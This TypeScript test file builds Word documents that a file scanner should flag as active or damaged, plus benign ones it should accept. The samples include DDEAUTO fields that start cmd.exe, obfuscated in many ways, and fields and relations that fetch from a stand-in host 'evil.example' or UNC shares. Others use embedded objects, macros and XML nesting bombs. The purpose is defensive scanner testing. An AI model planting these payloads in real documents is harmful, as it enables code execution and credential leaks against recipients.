import type { FileKind } from '@diwan/api-contract/values/file';
import { utils, write } from 'cfb';
import { contentTypes, docx, relations, wordText } from './test-documents.ts';

type HiddenWord = [what: string, kind: FileKind, content: () => Buffer | Promise<Buffer>, code: string];

const rels = 'word/_rels/document.xml.rels';
const noise = (bytes: number) => Buffer.from(crypto.getRandomValues(new Uint8Array(bytes)));
const body = (xml: string) => docx({ 'word/document.xml': wordText().replace('<w:p>', `<w:p>${xml}`) });
const run = (xml: string) => `<w:r>${xml}</w:r>`;
const mark = (kind: string) => run(`<w:fldChar w:fldCharType="${kind}"/>`);
const piece = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
const field = (...pieces: string[]) => body(`${mark('begin')}${pieces.map(piece).join('')}${mark('separate')}${run('<w:t>x</w:t>')}${mark('end')}`);
const related = (type: string, target: string, mode?: string) => docx({ [rels]: relations(type, target, mode) });
const typed = (more: string) => contentTypes(undefined, more);

/** An old Word document with its text in one piece, the marks of its fields among it. */
export function docWith(text: string, { more = {}, flags = 0 }: { more?: Record<string, string>; flags?: number } = {}): Buffer {
  const main = Buffer.alloc(2048 + text.length * 2);
  main.writeUInt16LE(0xa5ec, 0);
  main.writeUInt16LE(flags, 10);
  main.writeUInt32LE(0, 0x01a2);
  main.write(text, 2048, 'utf16le');
  const table = Buffer.alloc(21);
  table.writeUInt8(2, 0);
  table.writeUInt32LE(16, 1);
  table.writeUInt32LE(text.length, 9);
  table.writeUInt32LE(2048, 15);
  main.writeUInt32LE(table.length, 0x01a6);
  const file = utils.cfb_new();
  utils.cfb_add(file, '/WordDocument', main);
  utils.cfb_add(file, '/0Table', table);
  for (const [name, content] of Object.entries(more)) utils.cfb_add(file, name, Buffer.from(content.padEnd(64)));
  return Buffer.from(write(file, { type: 'buffer' }));
}

export const hiddenInWord: HiddenWord[] = [
  ['a field that starts a program', 'docx', () => field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), 'fileActive'],
  ['the same, in three pieces', 'docx', () => field(' DD', 'EAU', 'TO cmd.exe '), 'fileActive'],
  ['the same, in small letters', 'docx', () => field(' ddeauto cmd '), 'fileActive'],
  ['the same, with letters in figures', 'docx', () => field(' &#68;&#x44;E cmd '), 'fileActive'],
  ['the same, as CDATA', 'docx', () => field('<![CDATA[ DDE]]> cmd '), 'fileActive'],
  ['the same, between comments', 'docx', () => field(' D<!-- x -->DE cmd '), 'fileActive'],
  ['the same, deleted', 'docx', () => body(`${mark('begin')}${run('<w:delInstrText>DDE cmd</w:delInstrText>')}${mark('end')}`), 'fileActive'],
  ['the same, never ended', 'docx', () => body(`${mark('begin')}${piece('DDE cmd')}`), 'fileActive'],
  ['the same, in a simple field', 'docx', () => body('<w:fldSimple w:instr=" DDE cmd "><w:r/></w:fldSimple>'), 'fileActive'],
  ['the same, in the head of each page', 'docx', () => docx({ 'word/header1.xml': wordText().replace('<w:p>', `<w:p>${mark('begin')}${piece('DDE cmd')}${mark('end')}`) }), 'fileActive'],
  ['the same, in a text box', 'docx', () => body(`<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Fallback>${mark('begin')}${piece('DDE cmd')}${mark('end')}</mc:Fallback></mc:AlternateContent>`), 'fileActive'],
  ['a field whose name another one computes', 'docx', () => body(`${mark('begin')}${mark('begin')}${piece('QUOTE 68 68 69')}${mark('separate')}${mark('end')}${piece(' cmd')}${mark('end')}`), 'fileActive'],
  ['the same in another spelling of the format', 'docx', () => docx({ 'word/document.xml': wordText().replace('http://schemas.openxmlformats.org/wordprocessingml/2006/main', 'http://purl.oclc.org/ooxml/wordprocessingml/main').replace('<w:p>', `<w:p>${mark('begin')}${piece('DDE cmd')}${mark('end')}`) }), 'fileActive'],
  ['the same under another prefix', 'docx', () => docx({ 'word/document.xml': wordText().replace('<w:p>', `<w:p>${mark('begin')}${piece('DDE cmd')}${mark('end')}`).replaceAll('w:', 'q:').replace('xmlns:w', 'xmlns:q') }), 'fileActive'],
  ['a field that fetches a picture', 'docx', () => field(' INCLUDEPICTURE "http://evil.example/p.png" \\d '), 'fileActive'],
  ['a field that fetches a text', 'docx', () => field(' INCLUDETEXT "\\\\\\\\evil\\\\share\\\\a.docx" '), 'fileActive'],
  ['a field that links a table', 'docx', () => field(' LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" '), 'fileActive'],
  ['a field that imports', 'docx', () => field(' IMPORT "http://evil.example/p.png" '), 'fileActive'],
  ['a field that embeds', 'docx', () => field(' EMBED Package '), 'fileActive'],
  ['a field that runs a macro', 'docx', () => field(' MACROBUTTON AutoOpen x '), 'fileActive'],
  ['a field that asks a database', 'docx', () => field(' DATABASE \\d "a.mdb" '), 'fileActive'],
  ['a field that refers to a document', 'docx', () => field(' RD "\\\\\\\\evil\\\\a.docx" '), 'fileActive'],
  ['a field that leads into the network', 'docx', () => field(' HYPERLINK "file://///evil/share" '), 'fileActive'],
  ['a field that leads to a program', 'docx', () => field(' HYPERLINK \\o "a" "..\\\\a.exe" '), 'fileActive'],
  ['1,000 fields in each other', 'docx', () => body(mark('begin').repeat(1000)), 'fileDamaged'],
  ['another document inside', 'docx', () => related('aFChunk', 'a.html', ''), 'fileActive'],
  ['another document inside, by its element', 'docx', () => body('<w:altChunk/>'), 'fileActive'],
  ['HTML inside', 'docx', () => docx({ 'word/a.html': '<script/>' }), 'fileActive'],
  ['RTF inside, as a picture', 'docx', () => docx({ '[Content_Types].xml': typed('<Override PartName="/word/a.png" ContentType="application/rtf"/>'), 'word/a.png': '{\\rtf1}' }), 'fileActive'],
  ['a program inside, as a picture', 'docx', () => docx({ '[Content_Types].xml': typed('<Default Extension="png" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'), 'word/a.png': 'x' }), 'fileActive'],
  ['macros inside, as XML', 'docx', () => docx({ '[Content_Types].xml': typed('<Override PartName="/word/a.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'), 'word/a.xml': '<a/>' }), 'fileActive'],
  ['a table inside', 'docx', () => docx({ 'word/embeddings/a.xlsx': 'x' }), 'fileActive'],
  ['an embedded object', 'docx', () => related('oleObject', 'embeddings/a.bin', ''), 'fileActive'],
  ['an embedded object, by its element', 'docx', () => body('<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Package"/></w:object>'), 'fileActive'],
  ['a control', 'docx', () => related('control', 'activeX.xml', ''), 'fileActive'],
  ['a template from this computer', 'docx', () => related('attachedTemplate', 'file:///C:/a.dotm'), 'fileActive'],
  ['a frame', 'docx', () => related('frame', 'https://evil.example'), 'fileActive'],
  ['a mail merge', 'docx', () => docx({ 'word/settings.xml': '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge/></w:settings>' }), 'fileActive'],
  ['a picture from elsewhere that claims to be within', 'docx', () => related('image', 'https://evil.example/p.png', 'TargetMode="Internal"'), 'fileActive'],
  ['a picture from elsewhere without a word about it', 'docx', () => related('image', '//evil.example/p.png', ''), 'fileActive'],
  ['a picture from elsewhere in a drawing', 'docx', () => body('<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/p.png"/></w:pict>'), 'fileActive'],
  ['a link from a drawing into the network', 'docx', () => body('<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="\\\\evil\\share"/></w:pict>'), 'fileActive'],
  ['relations of any part', 'docx', () => docx({ 'customXml/_rels/item1.xml.rels': relations('image', 'http://evil.example/p.png') }), 'fileActive'],
  ['relations under a prefix', 'docx', () => docx({ [rels]: relations('image', 'http://evil.example').replaceAll('<R', '<p:R').replaceAll('</R', '</p:R').replace('xmlns=', 'xmlns:p=') }), 'fileActive'],
  ['relations that never end', 'docx', () => docx({ [rels]: '<Relationship '.repeat(40_000), 'word/media/1.png': noise(7000) }), 'fileDamaged'],
  ['10,000 pieces in 40 fields', 'docx', () => docx({ 'word/document.xml': wordText().replace('<w:p>', `<w:p>${mark('begin').repeat(40)}${piece('x').repeat(10_000)}`), 'word/media/1.png': noise(20_000) }), 'fileActive'],
  ['50,000 elements in each other', 'docx', () => docx({ 'word/document.xml': '<a>'.repeat(50_000) + '</a>'.repeat(50_000), 'word/media/1.png': noise(7000) }), 'fileDamaged'],
  ['XML that isn’t', 'docx', () => docx({ 'word/document.xml': '<w:document>' }), 'fileDamaged'],
  ['two types for one part', 'docx', () => docx({ '[Content_Types].xml': typed('<Override PartName="/WORD/document.xml" ContentType="application/xml"/>') }), 'fileDamaged'],
  ['a part that is named otherwise at its place', 'docx', () => renamed(), 'fileDamaged'],
  ['an old field that starts a program', 'doc', () => docWith('a\u0013 DDEAUTO cmd.exe \u0014x\u0015'), 'fileActive'],
  ['an old field that fetches a picture', 'doc', () => docWith('a\u0013INCLUDEPICTURE "http://evil.example/p"\u0015'), 'fileActive'],
  ['an old field that leads into the network', 'doc', () => docWith('a\u0013HYPERLINK "\\\\\\\\evil"\u0014x\u0015'), 'fileActive'],
  ['an old field in an old field', 'doc', () => docWith('\u0013IF 1 = 1 \u0013 DDE cmd \u0015\u0015'), 'fileActive'],
  ['an old document with an embedded object', 'doc', () => docWith('a', { more: { '/ObjectPool/_1/\u0001Ole': 'x' } }), 'fileActive'],
  ['an old document with macros below', 'doc', () => docWith('a', { more: { '/Macros/VBA/dir': 'x' } }), 'fileActive'],
  ['an old document that is hidden by a password', 'doc', () => docWith('a', { flags: 0x8000 }), 'fileEncrypted'],
  ['an old document with two texts', 'doc', () => docWith('a', { more: { '/x/WordDocument': 'x' } }), 'fileDamaged'],
];

export const soundInWord: [what: string, kind: FileKind, content: () => Buffer | Promise<Buffer>][] = [
  ['page numbers and a table of contents', 'docx', () => field(' TOC \\o "1-3" \\h \\z \\u ')],
  ['a field that leads to a page', 'docx', () => field(' HYPERLINK "https://example.com/a" \\o "x" ')],
  ['a field that leads within', 'docx', () => field(' HYPERLINK \\l "_Toc1" ')],
  ['a field in a field', 'docx', () => body(`${mark('begin')}${piece(' IF ')}${mark('begin')}${piece('PAGE')}${mark('end')}${piece(' = 1 "a" "b" ')}${mark('end')}`)],
  ['a formula', 'docx', () => field(' =SUM(ABOVE) ')],
  ['a picture, a font and a theme', 'docx', () => docx({ 'word/media/1.png': 'x', 'word/fonts/font1.odttf': 'x', 'word/theme/theme1.xml': '<a/>', [rels]: relations('theme', 'theme/theme1.xml', '') })],
  ['data of another program', 'docx', () => docx({ 'customXml/item1.xml': '<control src="http://example.com" xmlns="http://example.com/a"/>' })],
  ['fields of an old document', 'doc', () => docWith('\u0013 PAGE \u00141\u0015 \u0013HYPERLINK "https://example.com"\u0014x\u0015')],
  ['an old document with an empty pool', 'doc', () => docWith('a', { more: { '/\u0001CompObj': 'x' } })],
];

async function renamed(): Promise<Buffer> {
  const bytes = await docx();
  const text = bytes.toString('latin1');
  const first = text.indexOf('word/document.xml');
  bytes.write('word/documenT.xml', first, 'latin1');
  return bytes;
}
